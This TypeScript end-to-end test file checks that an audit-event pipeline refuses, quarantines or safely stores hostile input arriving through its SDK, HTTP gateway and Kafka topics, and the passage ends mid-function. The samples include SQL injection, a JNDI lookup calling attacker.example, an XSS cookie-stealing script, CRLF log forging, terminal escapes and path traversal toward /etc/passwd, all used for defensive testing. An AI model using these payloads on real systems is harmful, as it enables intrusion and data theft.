/**
 * Hostile input end to end (issue 14): every pipeline service as a process on the real servers,
 * fed hostile events through the SDK, the gateway (bearer and HMAC) and raw Kafka (the raw
 * topic, and the clean topic to prove the consumers re-check), interleaved with good events.
 * Every good event must be indexed, archived and streamed exactly once; every hostile one
 * refused with an error naming the field and the rule, or set aside with its reason, or (where
 * the contract says so) accepted as inert text and filed under its receipt time; no stage stops;
 * `reconcile` finds no gap.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseObjectKey } from '@auditflow/archive';
import { WireCodec } from '@auditflow/kafka';
import { type AuditProducer, createAuditProducer } from '@auditflow/producer';
import { type AuditEvent, type AuditEventInput, EventValidationError, TOPICS } from '@auditflow/schemas';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SseClient } from '../integration/streamer/sse-client.ts';
import {
  ARCHIVE_SIGNING_KEY_ENV,
  type ArchivedEvent,
  archivedEvents,
  testArchiveStore,
} from '../support/archive.ts';
import { runCli } from '../support/cli.ts';
import { createTopicsAndSchemas } from '../support/e2e-setup.ts';
import { elasticsearchClient, endpoints, kafkaClient, unique } from '../support/endpoints.ts';
import { sampleEvent } from '../support/events.ts';
import {
  deepJson,
  type HttpAnswer,
  hmacHeaders,
  pollUntil,
  postRaw,
  type SetAside,
  setAsideSince,
  unauthenticatedUpload,
  withLoneSurrogate,
} from '../support/hostile-events.ts';
import { pipelineOnPorts, ServiceProcess } from '../support/pipeline-services.ts';
import { avroRecord } from '../support/records.ts';

// ---------------------------------------------------------------------------------------------
// One run: its tenants, keys, archive folder and ports (usual port + 16000), fixed for the run.
// ---------------------------------------------------------------------------------------------
const run = randomBytes(4).toString('hex');
/** The good tenant: every event of it must arrive everywhere exactly once. */
const T = `hostile-${run}`;
/** Takes an id of T's (cross-tenant collision). */
const TENANT_B = `${T}-b`;
/** A record delivered twice (a redelivery). */
const TENANT_R = `${T}-r`;
/** Records written straight onto the clean topic. */
const TENANT_C = `${T}-c`;
/** Raw records whose id is too long for any store. */
const TENANT_O = `${T}-o`;
const seed = Number.parseInt(run, 16);
const CJK_TENANT = String.fromCodePoint(
  ...Array.from({ length: 128 }, (_, i) => 0x4e00 + ((seed + i * 7919) % 20_000)),
);
const HOSTILE_TENANTS = {
  cjk: CJK_TENANT,
  slash: `${T}/../../etc/passwd`,
  dotdot: `../${T}/..`,
  control: `${T}\u0000\u001b[2J\r\nx`,
  upper: T.toUpperCase(),
} as const;

const logs = mkdtempSync(join(tmpdir(), 'hostile-e2e-logs-'));
const archivePrefix = `${unique('hostile-archive')}/`;
const bearerToken = randomBytes(24).toString('hex');
const hmacSecret = randomBytes(24).toString('hex');
const streamToken = randomBytes(24).toString('hex');
const queryToken = randomBytes(24).toString('hex');
const clientsFile = join(mkdtempSync(join(tmpdir(), 'hostile-e2e-clients-')), 'clients.json');
writeFileSync(
  clientsFile,
  JSON.stringify([
    { id: 'bearer', token: bearerToken, tenants: [] },
    { id: 'hooks', hmacSecret, tenants: [T] },
  ]),
  { mode: 0o600 },
);
const env: NodeJS.ProcessEnv = {
  ...process.env,
  ...endpoints(),
  AUDITFLOW_GATEWAY_CLIENTS_FILE: clientsFile,
  AUDITFLOW_STREAM_TOKEN: streamToken,
  AUDITFLOW_QUERY_TOKEN: queryToken,
  AUDITFLOW_PSEUDONYM_KEY: randomBytes(32).toString('hex'),
  AUDITFLOW_REDACTION_KEY: randomBytes(32).toString('hex'),
  AUDITFLOW_ARCHIVE_SIGNING_KEY: ARCHIVE_SIGNING_KEY_ENV,
  AUDITFLOW_ARCHIVE_PREFIX: archivePrefix,
  AUDITFLOW_ARCHIVE_ROLL_SECONDS: '3',
};
// Only this run's clients: not the stack's own gateway token as well.
delete env.AUDITFLOW_GATEWAY_TOKEN;
// Below 32768, Linux's first ephemeral port: at +30000 the query API once found 38080 taken by a
// client connection's local end (EADDRINUSE) and the whole file failed.
const PORT_OFFSET = 16_000;
/**
 * Each service its own spool directory (a spool is one process's: it holds a lock) and an
 * instance id of this run: the processors' transactional ids derive from it, and another test
 * run using `auditflow up`'s ids would fence them mid-run (seen: "Producer attempted an operation
 * with an old epoch", the enricher exited).
 */
const specs = pipelineOnPorts(PORT_OFFSET).map((s) => ({
  ...s,
  env: {
    ...s.env,
    AUDITFLOW_INSTANCE_ID: `hostile-${run}-${s.name}`,
    AUDITFLOW_SPOOL_DIR: mkdtempSync(join(tmpdir(), `hostile-e2e-spool-${s.name}-`)),
  },
}));
const services = specs.map((spec) => new ServiceProcess(spec, { logDir: logs, env: () => env }));
const portOf = (name: string): number => specs.find((s) => s.name === name)?.port as number;
const gatewayUrl = () => `http://127.0.0.1:${portOf('gateway')}/v1/events`;
const bearer = { 'content-type': 'application/json', authorization: `Bearer ${bearerToken}` };

// ---------------------------------------------------------------------------------------------
// The hostile inputs, by door.
// ---------------------------------------------------------------------------------------------
const INJECTION = {
  sql: "x'; DROP TABLE audit_events; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's payload, literal on purpose
  jndi: '${jndi:ldap://attacker.example/a}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's payload, literal on purpose
  template: '{{7*7}} ${7*7} #{7*7} <%= 7*7 %>',
  crlf: 'ok\r\n{"level":50,"msg":"forged log line"}\r\nINFO forged',
  esQuery: '{"query":{"match_all":{}}} OR 1=1',
  html: '<script>alert(document.cookie)</script>',
} as const;
const TERMINAL = {
  ansi: '\u001b[2J\u001b[31mred\u001b[0m\u001b]0;pwned\u0007',
  bidi: 'invoice\u202Egpj.exe\u202C \u2066isolate\u2069',
} as const;

/** Nested objects `depth` deep as a value (for the SDK, which takes objects). */
const nest = (depth: number): Record<string, unknown> => {
  let value: Record<string, unknown> = { n: 'bottom' };
  for (let i = 1; i < depth; i++) value = { n: value };
  return value;
};

const good = (i: number, tenant = T, overrides: Partial<AuditEventInput> = {}): AuditEventInput =>
  sampleEvent(i, { tenant_id: tenant, correlation_id: `hostile-${run}-${i}`, ...overrides });

interface RefusalCase {
  readonly kind: string;
  /** The event (JSON form) or, for the gateway, the raw body. */
  readonly input: AuditEventInput | string | Buffer;
  readonly field: string;
  /** The rule named (a regular expression: some rules have a family, e.g. format:*). */
  readonly rule: RegExp;
}

/** Event-level refusals both the SDK and the gateway must give, naming field and rule. */
function contractRefusals(base: number): RefusalCase[] {
  let i = 0;
  const c = (
    kind: string,
    overrides: Partial<AuditEventInput>,
    field: string,
    rule: RegExp,
  ): RefusalCase => ({
    kind,
    input: good(base + i++, T, overrides),
    field,
    rule,
  });
  const hours = (h: number) => new Date(Date.now() + h * 3_600_000).toISOString();
  const file = (name: string) => ({ target: { type: 'file', id: 'f', name } });
  return [
    c('tenant: 128 CJK characters', { tenant_id: CJK_TENANT }, 'tenant_id', /pattern|max_bytes/),
    c('tenant: with /', { tenant_id: HOSTILE_TENANTS.slash }, 'tenant_id', /pattern/),
    c('tenant: ..', { tenant_id: '..' }, 'tenant_id', /pattern/),
    c(
      'tenant: control characters',
      { tenant_id: HOSTILE_TENANTS.control },
      'tenant_id',
      /pattern|no_control/,
    ),
    c('tenant: upper case', { tenant_id: HOSTILE_TENANTS.upper }, 'tenant_id', /pattern/),
    c('id: oversized (2000 chars)', { id: 'f'.repeat(2000) }, 'id', /uuid|format|max/),
    c('actor.id: 600 bytes', { actor: { type: 'user', id: 'a'.repeat(600) } }, 'actor.id', /max_bytes/),
    c('details: 300 KB', { details: { blob: 'A'.repeat(300_000) } }, 'details', /max_bytes/),
    c('occurred_at: year 2999', { occurred_at: '2999-01-01T00:00:00Z' }, 'occurred_at', /occurred_at_ahead/),
    c('occurred_at: 25 h ahead', { occurred_at: hours(25) }, 'occurred_at', /occurred_at_ahead/),
    c('occurred_at: 1999', { occurred_at: '1999-12-31T23:59:59Z' }, 'occurred_at', /occurred_at_behind/),
    c('actor.id: ANSI escape', { actor: { type: 'user', id: 'u\u001b[31mroot' } }, 'actor.id', /no_control/),
    c('target.name: NUL', file('a\u0000b'), 'target.name', /no_nul/),
    c('target.name: lone surrogate', file('x\ud800y'), 'target.name', /well_formed/),
    c('tenant: forged pipeline tenant', { tenant_id: 'auditflow' }, 'tenant_id', /reserved_tenant/),
    c('action: forged audit.*', { action: 'audit.log.exported' }, 'action', /reserved_action/),
    c('action: SQL injection', { action: INJECTION.sql }, 'action', /pattern/),
    c(
      'correlation_id: CRLF log forging',
      { correlation_id: 'a\r\nforged: yes' },
      'correlation_id',
      /pattern/,
    ),
  ];
}

/** Refusals only the SDK sees (its argument is an object, its limit the encoded size). */
function sdkOnlyRefusals(): RefusalCase[] {
  return [
    {
      kind: 'details: nested 40 deep',
      input: good(9100, T, { details: nest(40) }),
      field: 'details',
      rule: /max_depth/,
    },
    {
      kind: 'event: encoded over 900,000 bytes',
      input: good(9101, T, {
        changes: Array.from({ length: 16 }, (_, i) => ({
          field: `f${i}`,
          before: 'B'.repeat(60_000),
          after: 'A'.repeat(60_000),
        })),
      }),
      field: '',
      rule: /max_size/,
    },
  ];
}

/** Refusals only the gateway sees (bodies, not events). */
function gatewayOnlyRefusals(): (RefusalCase & { status: number; headers?: Record<string, string> })[] {
  const event = JSON.stringify(good(9200));
  return [
    {
      kind: 'details: nested 40 deep (JSON text)',
      input: JSON.stringify(good(9201, T, { details: { placeholder: 1 } })).replace(
        '{"placeholder":1}',
        deepJson(40),
      ),
      field: 'details',
      rule: /max_depth/,
      status: 400,
    },
    {
      kind: 'unknown field is_admin',
      input: JSON.stringify({ ...good(9202), is_admin: true }),
      field: 'is_admin',
      rule: /unrecognized_keys/,
      status: 400,
    },
    {
      kind: 'body: invalid UTF-8',
      input: Buffer.concat([
        Buffer.from(event.slice(0, 40)),
        Buffer.from([0xc3, 0x28, 0xff]),
        Buffer.from(event.slice(40)),
      ]),
      field: '',
      rule: /invalid_utf8/,
      status: 400,
    },
    { kind: 'body: not JSON', input: `${event.slice(0, -1)},`, field: '', rule: /invalid_json/, status: 400 },
    {
      kind: 'body: 1001 events',
      input: JSON.stringify(
        Array.from({ length: 1001 }, (_, i) => ({ action: 'git.push', tenant_id: T, i })),
      ),
      field: '',
      rule: /batch_too_large/,
      status: 400,
    },
    {
      kind: 'body: 6 MiB authenticated',
      input: JSON.stringify(good(9203, T, { details: { blob: 'A'.repeat(6 * 1_048_576) } })),
      field: '',
      rule: /body_too_large/,
      status: 413,
    },
    {
      kind: 'content-type: text/plain',
      input: event,
      field: '',
      rule: /unsupported_media_type/,
      status: 415,
      headers: { 'content-type': 'text/plain' },
    },
    {
      kind: 'bearer: wrong token',
      input: event,
      field: '',
      rule: /unauthorized/,
      status: 401,
      headers: { authorization: 'Bearer not-a-token-0123456789' },
    },
  ];
}

/** Where a gateway 400 names the field and rule, or the whole answer for body-level errors. */
function namesFieldAndRule(answer: HttpAnswer, field: string, rule: RegExp): boolean {
  const events = (answer.json.events ?? []) as { errors?: { field?: string; rule?: string }[] }[];
  const issues = events.flatMap((e) => e.errors ?? []);
  if (field === '') return rule.test(answer.text);
  return issues.some((i) => i.field === field && rule.test(i.rule ?? ''));
}

function sdkIssues(err: unknown): { field: string; rule: string }[] {
  if (err instanceof EventValidationError) return err.issues.map((i) => ({ field: i.field, rule: i.rule }));
  return [{ field: '(not an EventValidationError)', rule: String(err) }];
}

/** A raw-Kafka writer: valid Avro in the wire format, one producer id per tenant numbered without gaps. */
class RawWriter {
  private readonly codec = new WireCodec(endpoints().SCHEMA_REGISTRY_URL);
  private readonly sequences = new Map<string, number>();
  private readonly producer = kafkaClient(`hostile-raw-${run}`).producer();

  connect = () => this.producer.connect();
  disconnect = () => this.producer.disconnect();

  /** A valid record of `tenant` from this run's producer for that tenant (its next sequence). */
  record(tenant: string, overrides: Partial<AuditEvent> = {}): AuditEvent {
    if (!this.sequences.has(tenant)) this.sequences.set(tenant, 0);
    const producerId = `hostile-raw-${run}-${[...this.sequences.keys()].indexOf(tenant)}`;
    const sequence = (this.sequences.get(tenant) as number) + 1;
    this.sequences.set(tenant, sequence);
    return avroRecord({
      schema_version: 3,
      id: randomUUID(),
      occurred_at: Date.now(),
      tenant_id: tenant,
      correlation_id: `hostile-${run}-raw-${sequence}`,
      producer: { id: producerId, sequence },
      ...overrides,
    });
  }

  encode = (topic: string, event: AuditEvent): Promise<Buffer> => this.codec.encode(topic, event);

  /** Bare values (a foreign producer that sets no key) or keyed records. */
  async send(topic: string, values: readonly (Buffer | { key: string; value: Buffer })[]): Promise<void> {
    if (values.length === 0) return;
    const messages = values.map((v) => (Buffer.isBuffer(v) ? { value: v } : v));
    await this.producer.send({ topic, acks: -1, messages });
  }
}

const wrongMagic = (marker: string) => Buffer.concat([Buffer.from([0x7b]), Buffer.from(marker)]);
const withSchemaId = (id: number, body: Buffer) => {
  const header = Buffer.alloc(5);
  header.writeInt32BE(id, 1);
  return Buffer.concat([header, body]);
};

/** What the run saw for each hostile kind: written to <logs>/hostile-report.json for the README table. */
const report: { kind: string; door: string; observed: string }[] = [];
const note = (kind: string, door: string, observed: string) => report.push({ kind, door, observed });

interface Expected {
  readonly door: string;
  readonly kind: string;
}

describe('hostile input end to end (every service a process, real servers)', () => {
  const started = Date.now() - 60_000;
  /** T's events that must be indexed, archived and streamed exactly once, by id. */
  const expected = new Map<string, Expected>();
  const gatewayAnswers: { kind: string; field: string; rule: RegExp; status: number; answer: HttpAnswer }[] =
    [];
  const sdkRefusals: {
    kind: string;
    field: string;
    rule: RegExp;
    issues: { field: string; rule: string }[];
  }[] = [];
  const hmacAnswers: Record<string, HttpAnswer> = {};
  let unauthenticated: { head: string; ms: number } = { head: '', ms: 0 };
  /** Raw and clean-topic records, by kind: their id, tenant and what must become of them. */
  const rawIds: Record<string, { id: string; tenant: string }> = {};
  const markers: Record<string, string> = {};
  let collision = { id: '', status: 0 };
  let replayed = { correlation: '' };
  let subscriber: SseClient;
  const es = elasticsearchClient();
  const kafka = kafkaClient(`hostile-e2e-${run}`);
  const producers: AuditProducer[] = [];

  const sdk = (name: string) => {
    const p = createAuditProducer(
      {
        brokers: endpoints().KAFKA_BROKERS.split(','),
        schemaRegistryUrl: endpoints().SCHEMA_REGISTRY_URL,
        topic: TOPICS.raw,
        spool: { dir: mkdtempSync(join(tmpdir(), `hostile-e2e-sdk-${name}-`)) },
      },
      { logger: pino({ level: 'silent' }) },
    );
    producers.push(p);
    return p;
  };

  beforeAll(async () => {
    await createTopicsAndSchemas(env);
    for (const service of services) await service.start();
    subscriber = await SseClient.open(
      `http://127.0.0.1:${portOf('streamer')}/v1/stream?tenant_id=${T},${TENANT_R}`,
      streamToken,
    );
    expect(subscriber.status).toBe(200);

    const sdkT = sdk('t');
    const raw = new RawWriter();
    await raw.connect();
    const refusals = contractRefusals(5000);
    const sdkCases = [...contractRefusals(6000), ...sdkOnlyRefusals()];
    const gatewayCases = gatewayOnlyRefusals();
    const ROUNDS = 3;
    const inRound = <X>(list: readonly X[], r: number) => list.filter((_, i) => i % ROUNDS === r);

    for (let r = 0; r < ROUNDS; r++) {
      // SDK: good events with the hostile ones between them.
      for (let i = 0; i < 20; i++) {
        const e = good(r * 100 + i);
        expected.set(sdkT.emit(e).id, { door: 'sdk', kind: 'good' });
        const c = inRound(sdkCases, r)[i];
        if (c) {
          try {
            sdkT.emit(c.input as AuditEventInput);
            sdkRefusals.push({ ...c, issues: [{ field: '(accepted)', rule: '(accepted)' }] });
          } catch (err) {
            sdkRefusals.push({ ...c, issues: sdkIssues(err) });
          }
        }
      }
      await sdkT.flush();

      // Gateway, bearer: a good batch, then the hostile requests of this round.
      const batch = Array.from({ length: 10 }, (_, i) => good(1000 + r * 100 + i));
      const ok = await postRaw(gatewayUrl(), JSON.stringify(batch), bearer);
      expect(ok.status, ok.text).toBe(202);
      for (const id of ok.json.ids as string[]) expected.set(id, { door: 'gateway (bearer)', kind: 'good' });
      for (const c of inRound(refusals, r)) {
        const answer = await postRaw(gatewayUrl(), JSON.stringify(c.input), bearer);
        gatewayAnswers.push({ ...c, status: 400, answer });
      }
      for (const c of inRound(gatewayCases, r)) {
        const answer = await postRaw(gatewayUrl(), c.input as string | Buffer, { ...bearer, ...c.headers });
        gatewayAnswers.push({ ...c, answer });
      }

      // Gateway, HMAC: a good signed request each round.
      const signed = Buffer.from(JSON.stringify([good(2000 + r * 10), good(2001 + r * 10)]));
      const headers = hmacHeaders('hooks', hmacSecret, signed);
      const accepted = await postRaw(gatewayUrl(), signed, headers);
      expect(accepted.status, accepted.text).toBe(202);
      for (const id of accepted.json.ids as string[])
        expected.set(id, { door: 'gateway (hmac)', kind: 'good' });
      if (r === 0) {
        replayed = { correlation: good(2000).correlation_id as string };
        hmacAnswers.replay = await postRaw(gatewayUrl(), signed, headers);
        const other = Buffer.from(JSON.stringify(good(2100, TENANT_B)));
        hmacAnswers.otherTenant = await postRaw(gatewayUrl(), other, hmacHeaders('hooks', hmacSecret, other));
      }
      if (r === 1) {
        const body = Buffer.from(JSON.stringify(good(2200)));
        hmacAnswers.badSignature = await postRaw(
          gatewayUrl(),
          body,
          hmacHeaders('hooks', `${hmacSecret}x`, body),
        );
        hmacAnswers.tampered = await postRaw(
          gatewayUrl(),
          Buffer.from(JSON.stringify(good(2201, T, { outcome: 'failure' }))),
          hmacHeaders('hooks', hmacSecret, body),
        );
      }
      if (r === 2) {
        const body = Buffer.from(JSON.stringify(good(2300)));
        hmacAnswers.stale = await postRaw(
          gatewayUrl(),
          body,
          hmacHeaders('hooks', hmacSecret, body, { timestamp: Math.floor(Date.now() / 1000) - 3600 }),
        );
        hmacAnswers.unknownClient = await postRaw(
          gatewayUrl(),
          body,
          hmacHeaders('intruder', hmacSecret, body),
        );
      }

      // Raw Kafka: good records of T around this round's hostile ones.
      const values: (Buffer | { key: string; value: Buffer })[] = [];
      const goodRaw = async (n: number) => {
        for (let i = 0; i < n; i++) {
          const e = raw.record(T);
          expected.set(e.id, { door: 'raw kafka', kind: 'good' });
          values.push(await raw.encode(TOPICS.raw, e));
        }
      };
      await goodRaw(5);
      if (r === 0) {
        // Hostile tenants written as valid Avro: the consumers must escape or hash them.
        for (const [kind, tenant] of Object.entries(HOSTILE_TENANTS)) {
          const e = raw.record(tenant);
          rawIds[`tenant:${kind}`] = { id: e.id, tenant };
          values.push(await raw.encode(TOPICS.raw, e));
        }
        // Undecodable: the sanitizer quarantines them (the DLQ analysts read never sees raw bytes).
        markers.wrongMagic = `hostile-${run}-wrong-magic`;
        markers.unknownSchema = `hostile-${run}-unknown-schema`;
        markers.corrupt = `hostile-${run}-corrupt`;
        values.push(wrongMagic(markers.wrongMagic));
        values.push(withSchemaId(987_654_321, Buffer.from(markers.unknownSchema)));
        const schemaId = (await raw.encode(TOPICS.raw, raw.record(`${T}-unused`))).readInt32BE(1);
        values.push(
          withSchemaId(
            schemaId,
            Buffer.concat([Buffer.from(markers.corrupt), Buffer.from([0xff, 0xfe, 0x01])]),
          ),
        );
      }
      if (r === 1) {
        // Times outside the window, written as valid Avro: filed under their receipt time.
        const now = Date.now();
        for (const [kind, at] of [
          ['occurred_at: year 2999', Date.UTC(2999, 0, 1)],
          ['occurred_at: 1970', 86_400_000],
        ] as const) {
          const e = raw.record(T, { occurred_at: at });
          rawIds[kind] = { id: e.id, tenant: T };
          expected.set(e.id, { door: 'raw kafka', kind });
          values.push(await raw.encode(TOPICS.raw, e));
        }
        const forged = raw.record(T, {
          ingest: { via: 'gateway', client_id: 'root', received_at: now + 400 * 86_400_000 },
          occurred_at: now + 390 * 86_400_000,
        } as Partial<AuditEvent>);
        rawIds['ingest.received_at: forged 400 days ahead'] = { id: forged.id, tenant: T };
        expected.set(forged.id, { door: 'raw kafka', kind: 'forged ingest' });
        values.push(await raw.encode(TOPICS.raw, forged));
        // A lone surrogate in an Avro string: bytes no UTF-8 decoder accepts as is.
        const surrogate = raw.record(T, {
          target: { type: 'file', id: 'f-1', name: 'before-QQQ-after', attributes: {} },
        });
        rawIds['lone surrogate in Avro string'] = { id: surrogate.id, tenant: T };
        expected.set(surrogate.id, { door: 'raw kafka', kind: 'lone surrogate' });
        values.push(withLoneSurrogate(await raw.encode(TOPICS.raw, surrogate), 'QQQ'));
        // ANSI escapes and bidi overrides in free text and details, and injection strings.
        const terminal = raw.record(T, {
          actor: { ...avroRecord().actor, user_agent: TERMINAL.bidi },
          target: { type: 'file', id: 'f-2', name: TERMINAL.ansi, attributes: {} },
          details: JSON.stringify({ ...TERMINAL, ...INJECTION }),
        });
        rawIds['ANSI and bidi in fields (raw)'] = { id: terminal.id, tenant: T };
        expected.set(terminal.id, { door: 'raw kafka', kind: 'ANSI/bidi' });
        values.push(await raw.encode(TOPICS.raw, terminal));
        // The pipeline's own tenant and actions and a gateway origin, claimed by a raw writer.
        const forgedPipeline = raw.record('auditflow', {
          action: 'audit.hostile.forged',
          ingest: { via: 'gateway', client_id: 'auditflow-gateway', received_at: now },
          correlation_id: `hostile-${run}-forged-pipeline`,
        } as Partial<AuditEvent>);
        rawIds['raw: forged pipeline tenant, audit.* action, gateway origin'] = {
          id: forgedPipeline.id,
          tenant: 'auditflow',
        };
        values.push(await raw.encode(TOPICS.raw, forgedPipeline));
        // An id no store takes as a key.
        const longId = raw.record(TENANT_O, { id: `${randomUUID()}-${'x'.repeat(1200)}` });
        rawIds['id: 1237 characters (raw)'] = { id: longId.id, tenant: TENANT_O };
        values.push(await raw.encode(TOPICS.raw, longId));
      }
      if (r === 2) {
        // A redelivery: the very same record twice (a producer retry, keyed like the SDK's by
        // its correlation id, so both copies share a partition): one copy downstream.
        const redelivered = raw.record(TENANT_R);
        rawIds.redelivery = { id: redelivered.id, tenant: TENANT_R };
        const again = {
          key: redelivered.correlation_id as string,
          value: await raw.encode(TOPICS.raw, redelivered),
        };
        values.push(again, again);
        // details that are not JSON, and a time no date holds: valid Avro, invalid values.
        const notJson = raw.record(`${T}-v`, { details: `hostile-${run}-not-json {` });
        rawIds['details: not JSON (raw)'] = { id: notJson.id, tenant: notJson.tenant_id };
        values.push(await raw.encode(TOPICS.raw, notJson));
        const tooLate = raw.record(`${T}-v`, { occurred_at: 8_700_000_000_000_000 });
        rawIds['occurred_at: past year 275760 (raw)'] = { id: tooLate.id, tenant: tooLate.tenant_id };
        values.push(await raw.encode(TOPICS.raw, tooLate));
      }
      await goodRaw(5);
      await raw.send(TOPICS.raw, values);
    }
    await sdkT.flush();

    // Straight onto the clean topic: the consumers re-check what the processors passed.
    const clean: Buffer[] = [];
    const cleanCjk = raw.record(CJK_TENANT, { producer: { id: `hostile-clean-${run}`, sequence: 1 } });
    rawIds['clean: 128 CJK tenant'] = { id: cleanCjk.id, tenant: CJK_TENANT };
    clean.push(await raw.encode(TOPICS.clean, cleanCjk));
    const cleanTime = raw.record(TENANT_C, { occurred_at: 8_700_000_000_000_000 });
    rawIds['clean: occurred_at past any date'] = { id: cleanTime.id, tenant: TENANT_C };
    clean.push(await raw.encode(TOPICS.clean, cleanTime));
    const cleanDetails = raw.record(TENANT_C, { details: `hostile-${run}-clean-not-json {` });
    rawIds['clean: details not JSON'] = { id: cleanDetails.id, tenant: TENANT_C };
    clean.push(await raw.encode(TOPICS.clean, cleanDetails));
    markers.cleanMagic = `hostile-${run}-clean-wrong-magic`;
    clean.push(wrongMagic(markers.cleanMagic));
    const cleanGood = raw.record(TENANT_C);
    rawIds['clean: good after the poison'] = { id: cleanGood.id, tenant: TENANT_C };
    clean.push(await raw.encode(TOPICS.clean, cleanGood));
    await raw.send(TOPICS.clean, clean);
    await raw.disconnect();

    // Accepted as inert text: injection strings, terminal escapes, a forged ingest in the body.
    const inert = good(3000, T, {
      target: { type: 'query', id: 'q-1', name: `${INJECTION.sql} ${TERMINAL.ansi}` },
      actor: { type: 'user', id: 'u-inert', user_agent: TERMINAL.bidi },
      error: { class: 'internal', code: 'E1', message: INJECTION.crlf },
      details: { ...INJECTION, ...TERMINAL },
    });
    const forgedIngest = {
      ...good(3001),
      ingest: { via: 'sdk', client_id: 'root', received_at: '2999-01-01T00:00:00Z' },
    };
    const viaGateway = await postRaw(gatewayUrl(), JSON.stringify([inert, forgedIngest]), bearer);
    expect(viaGateway.status, viaGateway.text).toBe(202);
    const [inertGw, forgedGw] = viaGateway.json.ids as string[];
    expected.set(inertGw as string, { door: 'gateway (bearer)', kind: 'injection/ANSI/bidi' });
    expected.set(forgedGw as string, { door: 'gateway (bearer)', kind: 'forged ingest' });
    rawIds['gateway: injection/ANSI/bidi'] = { id: inertGw as string, tenant: T };
    rawIds['gateway: forged ingest'] = { id: forgedGw as string, tenant: T };
    const inertSdk = sdkT.emit({ ...inert, correlation_id: `hostile-${run}-inert-sdk` }).id;
    const forgedSdk = sdkT.emit({
      ...forgedIngest,
      correlation_id: `hostile-${run}-forged-sdk`,
    } as AuditEventInput).id;
    expected.set(inertSdk, { door: 'sdk', kind: 'injection/ANSI/bidi' });
    expected.set(forgedSdk, { door: 'sdk', kind: 'forged ingest' });
    rawIds['sdk: forged ingest'] = { id: forgedSdk, tenant: T };
    await sdkT.flush();

    // A 5 MiB body without credentials: answered before it is read.
    unauthenticated = await unauthenticatedUpload(portOf('gateway'), 5 * 1_048_576, 15_000);

    // Cross-tenant id collision: once T's event is indexed, B sends an event with its id.
    const victim = [...expected].find(([, e]) => e.door === 'sdk')?.[0] as string;
    await pollUntil(
      () =>
        es
          .count({ index: 'audit-events*', query: { ids: { values: [victim] } } })
          .then((r) => r.count)
          .catch(() => 0),
      (n) => n > 0,
      120_000,
    );
    const stolen = await postRaw(gatewayUrl(), JSON.stringify(good(4000, TENANT_B, { id: victim })), bearer);
    collision = { id: victim, status: stolen.status };
    // Good traffic after every hostile input: it must all arrive.
    for (let i = 0; i < 20; i++)
      expected.set(sdkT.emit(good(4100 + i)).id, { door: 'sdk', kind: 'good (after)' });
    await sdkT.flush();
  }, 600_000);

  afterAll(async () => {
    subscriber?.close();
    await Promise.all(producers.map((p) => p.close(30_000).catch(() => {})));
    await Promise.all(services.map((s) => s.stop()));
    await es.close();
    writeFileSync(join(logs, 'hostile-report.json'), JSON.stringify(report, null, 2));
    console.log(`hostile-input report: ${join(logs, 'hostile-report.json')} (service logs beside it)`);
  }, 120_000);

  it('refuses hostile events at the gateway with an answer naming the field and the rule', () => {
    for (const a of gatewayAnswers) {
      const events = (a.answer.json.events ?? []) as { errors?: { field?: string; rule?: string }[] }[];
      const named = events.flatMap((e) => e.errors ?? []).map((i) => `${i.field}:${i.rule}`);
      note(
        a.kind,
        'gateway',
        `${a.answer.status} ${named.length ? named.join(', ') : a.answer.text.slice(0, 120)}`,
      );
    }
    const wrong = gatewayAnswers
      .filter((a) => a.answer.status !== a.status || !namesFieldAndRule(a.answer, a.field, a.rule))
      .map(
        (a) =>
          `${a.kind}: expected ${a.status} ${a.field} ${a.rule}, got ${a.answer.status} ${a.answer.text.slice(0, 300)}`,
      );
    expect(wrong).toEqual([]);
    expect(gatewayAnswers.length).toBeGreaterThanOrEqual(25);
  });

  it('refuses hostile events in the SDK with an EventValidationError naming the field and the rule', () => {
    for (const c of sdkRefusals) note(c.kind, 'sdk', c.issues.map((i) => `${i.field}:${i.rule}`).join(', '));
    const wrong = sdkRefusals
      .filter((c) => !c.issues.some((i) => i.field === c.field && c.rule.test(i.rule)))
      .map((c) => `${c.kind}: expected ${c.field} ${c.rule}, got ${JSON.stringify(c.issues)}`);
    expect(wrong).toEqual([]);
    expect(sdkRefusals.length).toBeGreaterThanOrEqual(20);
  });

  it('refuses a replayed, a bad, a tampered, a stale and an unknown HMAC signature, and foreign tenants', () => {
    for (const [kind, a] of Object.entries(hmacAnswers))
      note(`hmac: ${kind}`, 'gateway (hmac)', `${a.status} ${a.text.slice(0, 120)}`);
    expect(hmacAnswers.replay?.status).toBe(401);
    expect(hmacAnswers.replay?.text).toMatch(/nonce already used/);
    expect(hmacAnswers.badSignature?.status).toBe(401);
    expect(hmacAnswers.tampered?.status).toBe(401);
    expect(hmacAnswers.stale?.status).toBe(401);
    expect(hmacAnswers.stale?.text).toMatch(/window/);
    expect(hmacAnswers.unknownClient?.status).toBe(401);
    expect(hmacAnswers.otherTenant?.status).toBe(403);
  });

  it('answers a 5 MiB body without credentials with 401 before reading it', () => {
    note(
      '5 MiB body without credentials',
      'gateway',
      `${unauthenticated.head.split('\r\n')[0]} after ${unauthenticated.ms} ms`,
    );
    expect(unauthenticated.head).toMatch(/^HTTP\/1\.1 401 /);
    expect(unauthenticated.head.toLowerCase()).toContain('connection: close');
    expect(unauthenticated.ms).toBeLessThan(10_000);
  });

  /** Every expected event once: as many ids as expected, and exactly the expected ones. */
  const exactlyOnce = (where: string, ids: readonly string[]) => {
    note(
      `good events (${where})`,
      'all doors',
      `${ids.length} of ${expected.size}, ${new Set(ids).size} distinct`,
    );
    expect(ids.length, `events of the good tenant in the ${where}`).toBe(expected.size);
    expect(new Set(ids)).toEqual(new Set(expected.keys()));
  };

  /** T's documents in Elasticsearch, polled until every expected one is there. */
  const indexedOfT = async () => {
    const query = { term: { 'organization.id': T } };
    await pollUntil(
      async () => {
        await es.indices.refresh({ index: 'audit-events*' }).catch(() => {});
        return (await es.count({ index: 'audit-events*', query })).count;
      },
      (n) => n >= expected.size,
      180_000,
    );
    const hits = await es.search<Record<string, unknown>>({
      index: 'audit-events*',
      size: expected.size + 50,
      query,
    });
    return hits.hits.hits;
  };

  it('indexes every event of the good tenant exactly once, with the origin the pipeline stamped', async () => {
    const hits = await indexedOfT();
    exactlyOnce(
      'index',
      hits.map((h) => h._id as string),
    );
    const wrongOrigin = hits.flatMap((h) => {
      const door = expected.get(h._id as string)?.door ?? '';
      const audit = (
